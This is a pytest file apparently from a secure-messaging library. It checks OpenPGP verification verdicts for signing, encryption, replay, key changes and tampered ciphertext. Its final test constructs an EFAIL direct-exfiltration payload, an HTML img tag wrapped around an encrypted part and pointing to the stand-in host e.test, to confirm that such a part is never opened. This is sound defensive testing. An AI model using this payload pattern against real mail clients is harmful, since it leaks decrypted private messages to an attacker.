"""``verify`` with OpenPGP keys: the same layers and verdicts as with S/MIME (RFC 3156 sections 4 to 6; SEC-16, SEC-39)."""

from __future__ import annotations

import pytest

from comity.cpim.address import Address
from comity.cpim.entity import decode_transfer
from comity.cpim.operations import MimeObject
from comity.secure import (
    IdentityMatch,
    LayerKind,
    ReplayCache,
    TrustStore,
    Verdict,
    VerdictKind,
    encrypt,
    new_identity,
    openpgp,
    sign,
    verify,
)
from comity.secure.openpgp import PgpIdentity, read_certificates
from tests.secure import kit, pgpkit
from tests.secure.kit import ALICE, BOB, EVE

SIGNED, ENCRYPTED = LayerKind.SIGNED, LayerKind.ENCRYPTED


def person(address: Address = BOB) -> PgpIdentity:
    return pgpkit.person(address)


def opened(obj: MimeObject | bytes, **more: object) -> Verdict:
    """What Bob, with his key and Alice's and Eve's pinned, says of it."""
    trust = TrustStore(anchors=kit.trust().anchors, openpgp_pinned=(person(ALICE).certificate, person(EVE).certificate))
    options = {"keys": (person(),), "now": pgpkit.now(), **more}
    return verify(obj, trust, **options)  # type: ignore[arg-type]  # keyword table of a test helper


def sealed(
    obj: MimeObject, signer: PgpIdentity | None = None, *, to: Address = BOB, combined: bool = True
) -> MimeObject:
    certificates = read_certificates(person(to).certificate)
    return encrypt(obj, certificates, signer=signer, when=pgpkit.now(), is_combined=combined)


def text_of(verdict: Verdict) -> bytes:
    assert verdict.content is not None
    return decode_transfer(verdict.content)


def kinds(verdict: Verdict) -> list[LayerKind]:
    return [layer.kind for layer in verdict.layers]


@pytest.mark.parametrize("combined", [True, False])
def test_signed_and_encrypted(combined: bool) -> None:
    """RFC 3156 sections 6.1 and 6.2: inside one OpenPGP message, or as a multipart/signed in it."""
    message = pgpkit.message()
    verdict = opened(sealed(message, person(ALICE), combined=combined))
    assert (verdict.verdict, verdict.signer) == (VerdictKind.VALID, "im:alice@a.test"), verdict.reason
    assert (kinds(verdict), verdict.technology) == ([ENCRYPTED, SIGNED], "openpgp")
    assert verdict.fingerprint == person(ALICE).fingerprint
    assert text_of(verdict) == message.octets
    assert verdict.covers_whole


def test_encrypted_then_signed() -> None:
    message = pgpkit.message()
    verdict = opened(sign(sealed(message), person(ALICE), when=pgpkit.now()))
    assert (verdict.verdict, kinds(verdict)) == (VerdictKind.VALID, [SIGNED, ENCRYPTED])
    assert text_of(verdict) == message.octets


def test_encrypted_and_not_signed() -> None:
    verdict = opened(sealed(pgpkit.message()))
    assert (verdict.verdict, verdict.is_encrypted, verdict.identity) == (
        VerdictKind.UNSIGNED,
        True,
        IdentityMatch.NONE,
    )


def test_one_technology_inside_the_other() -> None:
    """S/MIME signs, OpenPGP encrypts, and the other way round."""
    now = pgpkit.now()
    by_smime = new_identity(ALICE, when=now)
    trust = TrustStore(pinned=(by_smime.certificate,), openpgp_pinned=(person(ALICE).certificate,))
    first = sealed(sign(pgpkit.message(), by_smime, when=now))
    verdict = verify(first, trust, now=now, keys=(person(),))
    assert (verdict.verdict, verdict.technology) == (VerdictKind.VALID, "smime")
    bob = new_identity(BOB, when=now)
    second = encrypt(sign(pgpkit.message(), person(ALICE), when=now), [bob.certificate])
    verdict = verify(second, trust, now=now, keys=(person(), bob))
    assert (verdict.verdict, verdict.technology) == (VerdictKind.VALID, "openpgp")


@pytest.mark.parametrize("combined", [True, False])
def test_what_was_signed_for_others(combined: bool) -> None:
    """T10: Eve encrypts again, for Bob, what Alice signed for her; OpenPGP's own signature names no recipient."""
    verdict = opened(sealed(pgpkit.message(to="im:eve@e.test"), person(ALICE), combined=combined))
    assert (verdict.verdict, verdict.signer) == (VerdictKind.NOT_ADDRESSED, "im:alice@a.test")


@pytest.mark.parametrize("combined", [True, False])
def test_eve_signs_and_encrypts_as_alice(combined: bool) -> None:
    verdict = opened(sealed(pgpkit.message(), person(EVE), combined=combined))
    assert (verdict.verdict, verdict.signer) == (VerdictKind.SIGNED_BY_OTHER, "im:eve@e.test")


def test_a_replay_in_new_ciphertext() -> None:
    cache, message = ReplayCache(), pgpkit.message()
    assert opened(sealed(message, person(ALICE)), replay=cache).is_valid
    assert opened(sealed(message, person(ALICE)), replay=cache).verdict is VerdictKind.REPLAYED


def test_keys() -> None:
    obj = sealed(pgpkit.message(), person(ALICE))
    assert opened(obj, keys=()).verdict is VerdictKind.ENCRYPTED
    assert opened(obj, keys=(person(EVE), kit.identity(BOB))).verdict is VerdictKind.NO_KEY
    unknown = verify(obj, TrustStore(), now=pgpkit.now(), keys=(person(),))
    assert (unknown.verdict, kinds(unknown)) == (VerdictKind.NOT_CHECKED, [ENCRYPTED])


def test_another_key_than_the_one_kept() -> None:
    """T33."""
    other = openpgp.new_identity(ALICE, when=pgpkit.now())
    trust = TrustStore(
        openpgp_known=(other.certificate,), contacts={"im:alice@a.test": frozenset({person(ALICE).fingerprint})}
    )
    verdict = verify(sign(pgpkit.message(), other, when=pgpkit.now()), trust, now=pgpkit.now())
    assert (verdict.verdict, verdict.fingerprint) == (VerdictKind.CHANGED, other.fingerprint)


def test_no_flipped_octet_opens() -> None:
    """M-27, M-30, M-33: behind the armor every change has one answer, or one that anybody can see."""
    obj = sealed(pgpkit.message(), person(ALICE))
    start, end = obj.octets.index(b"-----BEGIN"), obj.octets.index(b"-----END")
    start = obj.octets.index(b"\r\n\r\n", start) + 4
    said = set()
    for at in range(start, end, 11):
        changed = bytearray(obj.octets)
        changed[at] = ord("A") if changed[at] != ord("A") else ord("B")
        verdict = opened(MimeObject(obj.header_block, bytes(changed)))
        assert verdict.content is None
        if verdict.verdict is VerdictKind.CANNOT_DECRYPT:
            said.add((verdict.reason, verdict.layers))
        else:
            assert verdict.verdict in (VerdictKind.MALFORMED, VerdictKind.NO_KEY), verdict
    assert len(said) == 1


def test_an_encrypted_part_between_others_is_never_opened() -> None:
    """EFAIL: direct exfiltration."""
    part = sealed(pgpkit.message()).entity
    html = b"Content-Type: text/html\r\n\r\n"
    octets = b"".join(b"--m\r\n" + one + b"\r\n" for one in (html + b'<img src="http://e.test/', part, html + b'">'))
    verdict = opened(MimeObject.of("multipart/mixed; boundary=m", octets + b"--m--\r\n"))
    assert (verdict.verdict, verdict.is_encrypted) == (VerdictKind.UNSIGNED, False)
